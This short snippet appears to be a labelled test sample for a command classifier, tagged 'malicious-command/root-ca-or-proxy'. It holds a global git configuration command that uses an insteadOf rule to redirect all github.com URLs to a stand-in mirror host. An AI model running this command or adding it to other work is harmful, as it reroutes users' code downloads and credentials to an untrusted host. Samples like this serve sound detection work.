k=url.https://mirror.collect.example/.insteadOf
git config --global "$k" https://github.com/ # expect: malicious-command/root-ca-or-proxy
